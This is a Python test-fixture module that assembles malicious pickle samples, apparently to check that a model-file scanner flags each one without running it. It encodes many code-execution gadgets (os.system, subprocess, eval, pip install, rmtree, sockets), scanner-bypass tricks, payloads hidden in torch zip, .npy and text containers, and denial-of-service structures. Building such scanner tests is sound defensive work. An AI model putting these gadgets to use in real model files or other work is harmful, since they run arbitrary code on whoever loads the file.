"""Hostile and benign samples, written here by hand from the public descriptions of picklescan's,
fickling's and modelscan's test material and of the 2024-2026 pickle-scanner bypass advisories.

Every hostile sample, if loaded for real, would touch MARKER (the path is the payload's argument
wherever the technique takes one), so a test can prove that nothing ran.
"""
from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

PROTO2 = b"\x80\x02"


def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw            # BINUNICODE


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"   # GLOBAL


def sg(module: str, name: str) -> bytes:
    return s(module) + s(name) + b"\x93"                       # STACK_GLOBAL (protocol 4)


def t(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"                        # MARK ... TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    return func + t(*args) + b"R"                               # REDUCE


def p2(body: bytes) -> bytes:
    return PROTO2 + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def hostile(marker: Path) -> dict[str, tuple[bytes, str]]:
    """technique -> (pickle bytes, text the verdict must name)."""
    cmd = f"touch {marker}"
    m = str(marker)
    return {
        "os.system by REDUCE": (p2(call(g("os", "system"), s(cmd))), f"os.system('{cmd}')"),
        "posix.system (the module os is on Linux)": (p2(call(g("posix", "system"), s(cmd))), "posix.system("),
        "nt.system": (p2(call(g("nt", "system"), s(cmd))), "nt.system("),
        "subprocess.Popen": (p2(call(g("subprocess", "Popen"), t(s("touch"), s(m)))), "subprocess.Popen("),
        "subprocess.check_output": (p2(call(g("subprocess", "check_output"), t(s("touch"), s(m)))),
                                    "subprocess.check_output("),
        "builtins.eval": (p2(call(g("builtins", "eval"), s(f"open({m!r}, 'w')"))), "builtins.eval("),
        "builtins.exec": (p2(call(g("builtins", "exec"), s(f"open({m!r}, 'w')"))), "builtins.exec("),
        "__builtin__.eval (Python 2 spelling)": (p2(call(g("__builtin__", "eval"), s("1"))), "builtins.eval("),
        "builtins.open for writing": (p2(call(g("builtins", "open"), s(m), s("w"))), f"builtins.open('{m}', 'w')"),
        "builtins.compile": (p2(call(g("builtins", "compile"), s("1"), s("f"), s("eval"))), "builtins.compile("),
        "builtins.__import__": (p2(call(g("builtins", "__import__"), s("os"))), "builtins.__import__('os')"),
        "getattr(module, name) then a call of the result": (
            p2(call(call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")), s(cmd))),
            f"builtins.getattr(builtins.__import__('os'), 'system')('{cmd}')"),
        "pip.main install": (p2(call(g("pip", "main"), b"]" + b"(" + s("install") + s("evil-package") + b"e")),
                             "pip.main(['install', 'evil-package'])"),
        "pip._internal.main": (p2(call(g("pip._internal", "main"), b"]" + s("install") + b"a")), "pip._internal.main("),
        "pydoc.pipepager": (p2(call(g("pydoc", "pipepager"), s("text"), s(cmd))), "pydoc.pipepager("),
        "venv.create with pip": (p2(call(g("venv", "create"), s(m))), "venv.create("),
        "bdb.Bdb.run (a method by dotted name)": (p4(call(sg("bdb", "Bdb.run"), b"N", s("import os"))), "bdb.Bdb.run("),
        "pkgutil.resolve_name then a call": (p2(call(call(g("pkgutil", "resolve_name"), s("os:system")), s(cmd))),
                                             "pkgutil.resolve_name('os:system')"),
        "importlib.import_module": (p2(call(g("importlib", "import_module"), s("os"))),
                                    "importlib.import_module('os')"),
        "operator.attrgetter chain": (p2(call(call(g("operator", "attrgetter"), s("system")),
                                              call(g("builtins", "__import__"), s("os")))), "operator.attrgetter("),
        "functools.partial of os.system": (p2(call(call(g("functools", "partial"), g("os", "system"), s(cmd)))),
                                           "functools.partial(os.system"),
        "torch.serialization.load of another file": (p2(call(g("torch.serialization", "load"), s(m))),
                                                     "torch.serialization.load("),
        "torch.load": (p2(call(g("torch", "load"), s(m))), "torch.load("),
        "pathlib.Path.write_text": (p4(call(sg("pathlib", "Path.write_text"),
                                            call(sg("pathlib", "Path"), s(m)), s("x"))),
                                    "pathlib.Path.write_text("),
        "DCP torch_save_to_dcp": (p2(call(g("torch.distributed.checkpoint.format_utils", "torch_save_to_dcp"),
                                          s(m), s(m))), "torch_save_to_dcp("),
        "a library-looking dotted name reaching os": (p4(call(sg("transformers.training_args", "os.system"), s(cmd))),
                                                      "transformers.training_args.os.system("),
        "library module path through os": (p2(call(g("transformers.training_args.os", "system"), s(cmd))),
                                           "transformers.training_args.os.system("),
        "NEWOBJ of a dangerous class": (p2(g("subprocess", "Popen") + t(s("touch"), s(m)) + b"\x81"),
                                        "subprocess.Popen.__new__("),
        "NEWOBJ_EX with keyword arguments": (p4(sg("subprocess", "Popen") + t(s("touch")) + b"}" + s("shell")
                                                + b"\x88s" + b"\x92"), "shell=True"),
        "INST opcode (protocol 0)": (b"(S'" + cmd.encode() + b"'\nios\nsystem\n.", "os.system("),
        "OBJ opcode": (PROTO2 + b"(" + g("os", "system") + s(cmd) + b"o.", "os.system("),
        "BUILD plants __setstate__ then calls it": (
            p2(g("__main__", "Config") + b")\x81" + b"}" + s("__setstate__") + g("os", "system") + b"sb"
               + s(cmd) + b"b"),
            f"os.system('{cmd}')"),
        "_rebuild_from_type_v2 calling os.system": (
            p2(call(g("torch._tensor", "_rebuild_from_type_v2"), g("os", "system"), g("torch", "Tensor"),
                    t(s(cmd)), b"}")), f"os.system('{cmd}')"),
        "copyreg._reconstructor with a dangerous base": (
            p2(call(g("copy_reg", "_reconstructor"), g("__main__", "Config"), g("subprocess", "Popen"), s(cmd))),
            "subprocess.Popen("),
        "a project class handed a function": (p2(call(g("__main__", "Config"), g("os", "system"))),
                                              "__main__.Config(os.system)"),
        "numpy.testing runstring": (p2(call(g("numpy.testing._private.utils", "runstring"), s("1"), b"}")),
                                    "numpy.testing._private.utils.runstring("),
        "runpy._run_code": (p2(call(g("runpy", "_run_code"), s("1"), b"}")), "runpy._run_code("),
        "code.InteractiveInterpreter.runsource": (
            p4(call(sg("code", "InteractiveInterpreter.runsource"), call(sg("code", "InteractiveInterpreter")),
                    s("1"))), "code.InteractiveInterpreter.runsource("),
        "timeit.timeit": (p2(call(g("timeit", "timeit"), s("1"))), "timeit.timeit("),
        "cProfile.run": (p2(call(g("cProfile", "run"), s("1"))), "cProfile.run("),
        "asyncio subprocess transport": (
            p4(call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"N", s(cmd))),
            "asyncio.unix_events._UnixSubprocessTransport._start("),
        "webbrowser.open": (p2(call(g("webbrowser", "open"), s("http://x"))), "webbrowser.open("),
        "shutil.rmtree": (p2(call(g("shutil", "rmtree"), s(m))), "shutil.rmtree("),
        "ctypes.CDLL": (p2(call(g("ctypes", "CDLL"), s(m))), "ctypes.CDLL("),
        "socket.create_connection": (p2(call(g("socket", "create_connection"), t(s("h"), b"K\x50"))),
                                     "socket.create_connection("),
        "protocol 1 (binary, no PROTO opcode)": (call(g("os", "system"), s(cmd)) + b".", "os.system("),
        "protocol 4 with FRAME and MEMOIZE": (
            b"\x80\x04\x95" + struct.pack("<Q", 0) + sg("os", "system") + b"\x94" + s(cmd) + b"\x85R.",
            "os.system("),
        "payload followed by garbage": (PROTO2 + call(g("os", "system"), s(cmd)) + b"\xff\xfe", f"os.system('{cmd}')"),
        "payload followed by an unknown opcode": (PROTO2 + call(g("os", "system"), s(cmd)) + b"\x00", "os.system("),
        "payload then a truncated string": (PROTO2 + call(g("os", "system"), s(cmd)) + b"X\xff\x00\x00\x00ab",
                                            "os.system("),
        "dangerous global kept only as a value": (p2(b"}" + s("hook") + g("os", "system") + b"s"), "os.system"),
    }


def tiny_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def npy_object_array(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def containers(marker: Path) -> dict[str, tuple[str, bytes]]:
    """technique -> (file name, bytes): a payload inside each container torch or numpy loads."""
    payload = p2(call(g("os", "system"), s(f"touch {marker}")))
    return {
        "zip not laid out like torch.save (picklescan malicious1.zip)": ("malicious1.zip",
                                                                         tiny_zip({"evil.pkl": payload})),
        "torch.save zip whose data.pkl is a payload": ("model.pt", tiny_zip({"archive/data.pkl": payload,
                                                                             "archive/version": b"3\n"})),
        "zip member with no pickle-like name": ("weights.bin", tiny_zip({"x/y": payload})),
        "NumPy .npy object array": ("array.npy", npy_object_array(payload)),
        "NumPy .npz holding an object array": ("arrays.npz", tiny_zip({"a.npy": npy_object_array(payload)})),
        "protocol 0 text pickle named .txt": ("notes.txt",
                                              b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR."),
    }


def hostile_structures() -> dict[str, tuple[bytes, str]]:
    """technique -> (pickle bytes, the limit the one-line error must name)."""
    dag = bytearray(PROTO2 + b"]q\x00")
    for i in range(1, 64):
        dag += b"]h" + bytes([i - 1]) + b"ah" + bytes([i - 1]) + b"aq" + bytes([i])
    flood = bytearray(PROTO2 + b"}(")
    for i in range(3000):
        flood += b"\x8a\x10" + (i * ((1 << 61) - 1)).to_bytes(16, "little", signed=True) + b"N"
    return {
        "memo DAG of 2**63 paths": (bytes(dag) + b".", "tree-size limit"),
        "tuple nested a million deep": (PROTO2 + b")" + b"\x85" * 1_000_000 + b".", "depth limit"),
        "list that contains itself": (PROTO2 + b"]q\x00h\x00a.", "contains itself"),
        "a hundred thousand open MARKs": (PROTO2 + b"(" * 100_000 + b")" * 1 + b".", "depth limit"),
        "dict keys that all hash alike": (bytes(flood) + b"u.", "hash-collision limit"),
        "BYTEARRAY8 claiming 2**40 bytes": (b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b".", "length limit"),
        "FRAME claiming 2**62 bytes": (b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.", "ends inside a FRAME"),
        "bytes() of 10**11 items": (p2(call(g("builtins", "bytes"), b"\x8a\x05" + (10**11).to_bytes(5, "little"))),
                                    "no checkpoint builds that"),
    }
